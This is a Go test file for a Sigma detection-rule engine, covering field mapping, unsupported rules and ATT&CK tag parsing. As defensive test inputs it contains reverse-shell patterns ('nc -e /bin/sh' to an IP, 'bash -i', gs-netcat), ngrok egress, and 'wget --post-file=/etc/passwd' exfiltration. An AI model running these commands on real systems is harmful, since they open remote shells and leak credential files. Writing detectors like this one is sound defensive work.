package sigma

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestCommandLineFromArgs(t *testing.T) {
	set := compile(t, ruleYAML("s:\n    CommandLine|contains: 'nc -e /bin/sh'\ncondition: s\n"))
	// No process.command_line: the arguments joined by spaces, as ECS
	// and cairn_host build it.
	assert.True(t, matches(t, set, proc(map[string]any{"process.args": []any{"nc", "-e", "/bin/sh", "10.0.0.1"}})))
	// The command line, when there is one, is what is matched.
	assert.False(t, matches(t, set, proc(map[string]any{"process.command_line": "nc -l", "process.args": []any{"nc", "-e", "/bin/sh"}})))
	assert.True(t, matches(t, set, proc(map[string]any{"process.command_line": "nc -e /bin/sh x"})))
	// OTel's name for the arguments.
	assert.True(t, matches(t, set, proc(map[string]any{"process.command_args": []any{"nc", "-e", "/bin/sh"}})))
	// Parent too.
	set = compile(t, ruleYAML("s:\n    ParentCommandLine: 'bash -i'\ncondition: s\n"))
	assert.True(t, matches(t, set, proc(map[string]any{"process.parent.args": []any{"bash", "-i"}})))
}

func TestShapesAndAliases(t *testing.T) {
	set := compile(t, ruleYAML("s:\n    Image|endswith: '/gs-netcat'\n    User: root\ncondition: s\n"))
	flat := proc(map[string]any{"process.executable": "/tmp/.x/gs-netcat", "user.name": "root"})
	nested := map[string]any{
		"event":   map[string]any{"category": []any{"process"}, "type": []any{"start"}},
		"process": map[string]any{"executable": "/tmp/.x/gs-netcat"},
		"user":    map[string]any{"name": "root"},
	}
	otel := proc(map[string]any{"process.executable.path": "/tmp/.x/gs-netcat", "process.owner": "root"})
	for name, ev := range map[string]map[string]any{"flat": flat, "nested": nested, "otel": otel} {
		assert.True(t, matches(t, set, ev), name)
	}
	// A string category (not an array) is read too.
	assert.True(t, matches(t, set, map[string]any{"event.category": "process", "event.type": "start",
		"process.executable": "/tmp/gs-netcat", "user.name": "root"}))
	// Other events are not process starts.
	for _, typ := range []any{"end", "info"} {
		assert.False(t, matches(t, set, map[string]any{"event.category": "process", "event.type": typ,
			"process.executable": "/tmp/gs-netcat", "user.name": "root"}))
	}
}

func TestNetworkAndFileMapping(t *testing.T) {
	set := compile(t, `title: N
id: n
level: high
logsource: {category: network_connection, product: linux}
detection:
    selection:
        DestinationHostname|endswith: '.ngrok.io'
        DestinationPort: 443
        Initiated: 'true'
    condition: selection
`)
	ev := conn(map[string]any{"destination.domain": "x.ngrok.io", "destination.port": int64(443), "network.direction": "egress"})
	assert.True(t, matches(t, set, ev))
	ev["network.direction"] = "outbound"
	assert.True(t, matches(t, set, ev), "ECS before 1.8")
	ev["network.direction"] = "ingress"
	assert.False(t, matches(t, set, ev))
	// DNS answers are network events but not connections.
	assert.False(t, matches(t, set, map[string]any{"event.category": []any{"network"}, "event.type": []any{"protocol", "info"},
		"destination.domain": "x.ngrok.io", "destination.port": int64(443), "network.direction": "egress"}))

	u := unsupportedOf(t, `title: N
id: n
level: high
logsource: {category: network_connection, product: linux}
detection:
    selection:
        Initiated|contains: 'tr'
    condition: selection
`)
	assert.Equal(t, ReasonField, u.Reason)

	set = compile(t, `title: F
id: f
level: high
logsource: {category: file_event, product: linux}
detection:
    selection:
        TargetFilename: '/tmp/rootlog'
    condition: selection
`)
	assert.True(t, matches(t, set, map[string]any{"event.category": []any{"file"}, "event.type": []any{"creation"}, "file.path": "/tmp/rootlog"}))
	assert.False(t, matches(t, set, map[string]any{"event.category": []any{"file"}, "event.type": []any{"deletion"}, "file.path": "/tmp/rootlog"}))
}

func TestAuditdRules(t *testing.T) {
	doc := func(det string) string {
		return "title: A\nid: a\nlevel: medium\nlogsource: {product: linux, service: auditd}\ndetection:\n" + indent(det, "    ")
	}
	rules, unsup, err := ParseFile("a.yml", []byte(doc("selection:\n    type: EXECVE\n    a0: wget\n    a1|startswith: '--post-file='\ncondition: selection\n")))
	require.NoError(t, err)
	require.Empty(t, unsup)
	require.Len(t, rules, 1)
	assert.Equal(t, ClassProcessCreation, rules[0].Class)
	set, _, err := NewRuleSet(rules, Options{})
	require.NoError(t, err)
	assert.True(t, matches(t, set, proc(map[string]any{"process.args": []any{"wget", "--post-file=/etc/passwd", "http://x"}})))
	assert.False(t, matches(t, set, proc(map[string]any{"process.args": []any{"/usr/bin/wget", "--post-file=/etc/passwd"}})), "a0 is argv[0] as written")
	assert.False(t, matches(t, set, proc(map[string]any{"process.args": []any{"wget"}})), "no a1")

	for _, det := range []string{
		"s:\n    type: SYSCALL\n    SYSCALL: memfd_create\ncondition: s\n",
		"s:\n    type: PATH\n    name: /etc/shadow\ncondition: s\n",
		"s:\n    exe|endswith: /ecasound\ncondition: s\n",
	} {
		u := unsupportedOf(t, doc(det))
		assert.Equal(t, ReasonAuditd, u.Reason, det)
		assert.Contains(t, u.Detail, "raw auditd records")
	}
}

func TestUnsupportedLogsourcesAndFields(t *testing.T) {
	for ls, want := range map[string]Reason{
		"{category: process_creation, product: windows}": ReasonLogsource,
		"{product: linux, service: sshd}":                ReasonLogsource,
		"{product: linux}":                               ReasonLogsource,
		"{category: registry_event, product: windows}":   ReasonLogsource,
		"{category: dns_query, product: linux}":          ReasonLogsource,
	} {
		u := unsupportedOf(t, "title: X\nid: x\nlevel: low\nlogsource: "+ls+"\ndetection:\n    s:\n        Image: x\n    condition: s\n")
		assert.Equal(t, want, u.Reason, ls)
		assert.Equal(t, "x", u.ID)
		assert.Equal(t, "X", u.Title)
	}
	u := unsupportedOf(t, ruleYAML("s:\n    LogonId: 0\ncondition: s\n"))
	assert.Equal(t, ReasonField, u.Reason)
	assert.Contains(t, u.Detail, "LogonId")
	u = unsupportedOf(t, ruleYAML("s:\n    Frobnicator: 1\ncondition: s\n"))
	assert.Equal(t, ReasonField, u.Reason)
	u = unsupportedOf(t, ruleYAML("s:\n    DestinationIp: 1.2.3.4\ncondition: s\n"))
	assert.Equal(t, ReasonField, u.Reason, "a network field on process starts")
	u = unsupportedOf(t, ruleYAML("keywords:\n    - 'evil'\ncondition: keywords\n"))
	assert.Equal(t, ReasonKeywords, u.Reason)
	u = unsupportedOf(t, ruleYAML("keywords:\n    '|all':\n        - a\n        - b\ncondition: keywords\n"))
	assert.Equal(t, ReasonKeywords, u.Reason)
	for _, doc := range []string{
		"title: C\nid: c\ncorrelation:\n    type: event_count\n    rules: [x]\n",
		"title: F\nid: f\nlogsource: {product: linux}\nfilter:\n    rules: [x]\n    selection: {User: root}\n    condition: not selection\n",
		"action: global\ntitle: G\n",
	} {
		assert.Equal(t, ReasonCorrelation, unsupportedOf(t, doc).Reason, doc)
	}
}

func TestAttackTags(t *testing.T) {
	tactics, techniques := attackOf([]string{"attack.execution", "attack.t1059.004", "attack.T1059", "attack.stealth",
		"attack.defense-evasion", "attack.defense_impairment", "attack.command-and-control", "attack.g0020", "cve.2021-44228", "attack.t1059.004"})
	assert.Equal(t, []string{"TA0002", "TA0005", "TA0112", "TA0011"}, tactics)
	assert.Equal(t, []string{"T1059.004", "T1059"}, techniques)
	assert.False(t, isTechnique("t12345"))
	assert.False(t, isTechnique("t1234.1"))
}
